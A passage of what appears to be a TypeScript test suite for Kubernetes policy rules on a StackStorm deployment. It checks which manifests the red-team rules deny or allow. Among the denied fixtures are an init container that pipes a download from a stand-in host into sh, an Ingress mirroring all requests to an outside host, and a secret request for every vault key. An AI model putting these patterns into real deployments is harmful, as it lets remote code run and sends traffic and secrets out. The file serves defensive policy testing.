    spec: { rules: [{ host, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }], tls: [{ hosts: [host], secretName: 'st2web-tls' }] },
  });
  const echo = (labels: Record<string, string>): Manifest => ({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: meta('echo'),
    spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { containers: [{ name: 'echo', image: 'mendhak/http-https-echo:34', resources: { limits: { cpu: '100m', memory: '128Mi' } } }] } } },
  });
  return [
    ...rows('ST2-EXP-013', [
      ['production', "st2web's Ingress mirroring every request to an outside host is denied", () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/mirror-target': 'https://copy.example.net$request_uri' })], deny('ST2-EXP-013', { field: 'metadata.annotations.nginx.ingress.kubernetes.io/mirror-target', message: 'host=copy.example.net' })],
      ['production', "st2web's Ingress authenticating through an https auth-url is allowed", () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/auth-url': 'https://sso.example.net/oauth2/auth' })], 'allowed'],
      ['production', "st2web's Ingress redirecting to an outside host is denied", () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/permanent-redirect': 'https://st2-login.example.net/' })], deny('ST2-EXP-013', { field: 'metadata.annotations.nginx.ingress.kubernetes.io/permanent-redirect', message: 'copy=redirect' })],
      ['production', "st2web's Ingress redirecting to its own host is allowed", () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/permanent-redirect': 'https://st2.example.com/' })], 'allowed'],
    ]),
    ...rows('ST2-EXP-014', [
      ['production', "an echo server carrying st2web's Service labels is denied", () => [...web(), echo({ app: 'st2web', release: 'st2' })], deny('ST2-EXP-014', { field: 'spec.template.metadata.labels', message: 'component=st2web' })],
      ['production', 'the echo server with labels of its own is allowed', () => [...web(), echo({ app: 'echo', release: 'st2' })], 'allowed'],
    ]),
    ...rows('ST2-EXP-015', [
      ['production', 'an Ingress to st2web for a wildcard over the company domain is denied', () => [...web(), ingress('*.example.com')], deny('ST2-EXP-015', { field: 'spec.rules.0.host', message: 'host=*.example.com' })],
      ['production', "an Ingress for st2's own host is allowed", () => [...web(), ingress('st2.example.com')], 'allowed'],
    ]),
  ];
}

/** The holes piece (test/policy/redteam/fresh10-holes.ts has the overlays): releases, floors, images, URLs, ESO. */
function holesCases(): RuleCase[] {
  const rotation = (st2Property: string): Manifest[] => [
    ...haWorkload('mongodb', 3, {
      kind: 'StatefulSet',
      container: {
        image: 'mongo:4.4.29',
        args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'],
        env: [
          { name: 'MONGO_INITDB_ROOT_USERNAME', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'user' } } },
          { name: 'MONGO_INITDB_ROOT_PASSWORD', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } },
        ],
      },
    }),
    {
      apiVersion: 'external-secrets.io/v1',
      kind: 'ExternalSecret',
      metadata: meta('mongodb-admin'),
      spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' }, target: { name: 'mongodb-admin' }, data: [{ secretKey: 'user', remoteRef: { key: 'stackstorm/mongodb', property: 'user' } }, { secretKey: 'password', remoteRef: { key: 'stackstorm/mongodb', property: 'password' } }] },
    },
    {
      apiVersion: 'external-secrets.io/v1',
      kind: 'ExternalSecret',
      metadata: meta('st2-config-secrets'),
      spec: {
        secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' },
        target: { name: 'st2-config-secrets', template: { data: { 'st2.secrets.conf': '[database]\nusername = {{ .u }}\npassword = {{ .p }}\n' } } },
        data: [{ secretKey: 'u', remoteRef: { key: 'stackstorm/mongodb', property: 'user' } }, { secretKey: 'p', remoteRef: { key: 'stackstorm/mongodb', property: st2Property } }],
      },
    },
  ];
  const externalSecret = (spec: Manifest): Manifest => ({
    apiVersion: 'external-secrets.io/v1',
    kind: 'ExternalSecret',
    metadata: meta('st2-extra'),
    spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' }, target: { name: 'st2-extra' }, ...spec },
  });
  const mongo = (memory: string): Manifest[] => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'], resources: { limits: { cpu: '1', memory } } } });
  const runner = (tag: string): Manifest[] => [workload('st2garbagecollector', { container: { image: `stackstorm/st2garbagecollector:${tag}` } })];
  const api = (tag: string): Manifest[] => haWorkload('st2api', 2, { container: { image: `stackstorm/st2api:${tag}` } });
  return [
    ...rows('ST2-OPS-048', [
      ['production', 'a 64 MiB MongoDB is denied', () => mongo('64Mi'), deny('ST2-OPS-048', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' })],
      ['production', 'a 1 GiB MongoDB is allowed', () => mongo('1Gi'), 'allowed'],
      ['staging', 'an st2api cpu limit of 1m warns in staging', () => haWorkload('st2api', 2, { container: { resources: { limits: { cpu: '1m', memory: '512Mi' } } } }), warn('ST2-OPS-048', { message: 'resource=cpu' })],
    ]),
    ...rows('ST2-HRD-015', [
      ['production', "st2api on StackStorm's dev build in production is denied", () => api('3.9dev'), deny('ST2-HRD-015', { field: 'spec.template.spec.containers.0.image' })],
      ['production', 'st2api on a release tag is allowed', () => api('3.8.1'), 'allowed'],
    ]),
    ...rows('ST2-HRD-016', [
      ['production', 'the garbage collector on 3.7 beside st2api on 3.8 is denied', () => [...api('3.8.1'), ...runner('3.7.1')], deny('ST2-HRD-016', { message: 'release=3.7' })],
      ['production', 'the garbage collector on the previous patch release of 3.8 is allowed', () => [...api('3.8.1'), ...runner('3.8.0')], 'allowed'],
    ]),
    ...rows('ST2-HRD-017', [
      ['production', "st2api from someone's Docker Hub namespace is denied", () => haWorkload('st2api', 2, { container: { image: 'jdoe/st2api:3.8.1' } }), deny('ST2-HRD-017', { field: 'spec.template.spec.containers.0.image' })],
      ['production', "st2api from StackStorm's namespace on docker.io is allowed", () => haWorkload('st2api', 2, { container: { image: 'docker.io/stackstorm/st2api:3.8.1' } }), 'allowed'],
    ]),
    ...rows('ST2-HRD-018', [
      ['production', 'st2web with ST2WEB_HTTPS=0 in production is denied', () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '0' }] } }), deny('ST2-HRD-018', { message: 'variable=ST2WEB_HTTPS' })],
      ['production', 'st2web with ST2WEB_HTTPS=1 is allowed', () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '1' }] } }), 'allowed'],
    ]),
    ...rows('ST2-OPS-049', [
      ['production', "st2web's auth URL at st2api is denied", () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2api:9101/' }] } }), service('st2api', 'st2api'), ...haWorkload('st2api', 2)], deny('ST2-OPS-049', { message: 'variable=ST2_AUTH_URL' })],
      ['production', "st2web's auth URL at st2auth (the Service's port) is allowed", () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], 'allowed'],
      ['production', "st2web's auth URL on a port st2auth's Service lacks is denied", () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth:9100/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], deny('ST2-OPS-049', { message: 'port=9100' })],
    ]),
    {
      name: 'an ExternalSecret finding every key of its store is denied',
      rule: 'ST2-SEC-018',
      environment: 'production',
      resources: () => [externalSecret({ dataFrom: [{ find: { name: { regexp: '.*' } } }] })],
      expected: deny('ST2-SEC-018', { field: 'spec.dataFrom.0.find' }),
    },
    ...rows('ST2-SEC-020', [
      ['production', "st2's MongoDB password rotated without the store's is denied", () => rotation('password-2026'), deny('ST2-SEC-020', { field: 'spec.data.1', message: 'store=mongodb' })],
      ['production', "st2's MongoDB password read from the store's own value is allowed", () => rotation('password'), 'allowed'],
    ]),
    { name: 'an ExternalSecret finding keys under a path is allowed', rule: 'ST2-SEC-018', environment: 'production', resources: () => [externalSecret({ dataFrom: [{ find: { path: 'stackstorm/packs' } }] })], expected: 'allowed' },
    ...rows('ST2-SEC-019', [
      ['production', 'an init container piping an http download into sh is denied', () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsSL http://tools.example.net/boot.sh | sh'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }), deny('ST2-SEC-019', { message: 'host=tools.example.net' })],
      ['production', 'an init container fetching a config file over http is allowed', () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsS http://config.example.net/st2.conf -o /tmp/st2.conf'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }), 'allowed'],
    ]),
  ];
}

/** The tenth red team's store formation (test/policy/redteam/fresh11-stores.ts has the overlays). */
function storeFormationCases(): RuleCase[] {
  const initiated = (members: string): Manifest[] => mongo(3, `rs.initiate({ _id: "rs0", members: [ ${members} ] })`);
  const hosts = [0, 1, 2].map((k) => `{ _id: ${k}, host: "mongodb-${k}.mongodb:27017"`);
  const rabbitProbe = (probe: Manifest, extra: Manifest = {}): Manifest[] => haWorkload('rabbitmq', 3, { kind: 'StatefulSet', container: { image: 'rabbitmq:3.12.14', livenessProbe: probe, ...extra }, pod: {} });
  const status = { exec: { command: ['rabbitmqctl', 'status'] } };
  const priority = (value: number): Manifest[] => [
    ...haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'] }, pod: { priorityClassName: 'stores' } }),
    { apiVersion: 'scheduling.k8s.io/v1', kind: 'PriorityClass', metadata: { name: 'stores' }, value },
  ];
  return [
    ...rows('ST2-REP-026', [
      ['production', 'two members of priority 0 leave no primary without the first', () => initiated(`${hosts[0]} }, ${hosts[1]}, priority: 0 }, ${hosts[2]}, priority: 0 }`), deny('ST2-REP-026')],
      ['production', 'one member of priority 0 keeps failover', () => initiated(`${hosts[0]} }, ${hosts[1]} }, ${hosts[2]}, priority: 0 }`), 'allowed'],
    ]),
    ...rows('ST2-OPS-055', [
      ['production', 'RabbitMQ liveness of 3 s kills a booting node', () => rabbitProbe({ ...status, initialDelaySeconds: 1, periodSeconds: 2, failureThreshold: 1 }), deny('ST2-OPS-055')],
      ['production', 'RabbitMQ liveness behind a startup probe is allowed', () => rabbitProbe({ ...status, initialDelaySeconds: 1 }, { startupProbe: { ...status, failureThreshold: 30 } }), 'allowed'],
    ]),
    ...rows('ST2-OPS-056', [
      ['production', 'MongoDB on a negative priority is denied', () => priority(-10), deny('ST2-OPS-056')],
      ['production', 'MongoDB on priority 0 is allowed', () => priority(0), 'allowed'],
    ]),
  ];
}

/** The eleventh red team's store classes (test/policy/redteam/fresh12-stores.ts has the overlays). */
function storeStartupCases(): RuleCase[] {
  const mongod = (args: string[], pod: Manifest = {}): Manifest[] => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt', ...args] }, pod });
  const preferred = { podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 100, podAffinityTerm: { topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { app: 'mongodb' } } } }] } };
  return [
    ...rows('ST2-REP-016', [
      ['production', 'mongod given --replSet twice exits', () => mongod(['--replSet', 'rs0']), deny('ST2-REP-016')],
      ['production', 'mongod with two --setParameter starts', () => mongod(['--setParameter', 'diagnosticDataCollectionEnabled=false', '--setParameter', 'cursorTimeoutMillis=600000']), 'allowed'],
    ]),
    ...rows('ST2-OPS-045', [
      ['production', 'a quorum store whose anti-affinity is only preferred is denied in production', () => mongod([], { affinity: preferred }), deny('ST2-OPS-045')],
      ['production', 'a quorum store required one member per node is allowed', () => mongod([]), 'allowed'],
    ]),
  ];
}
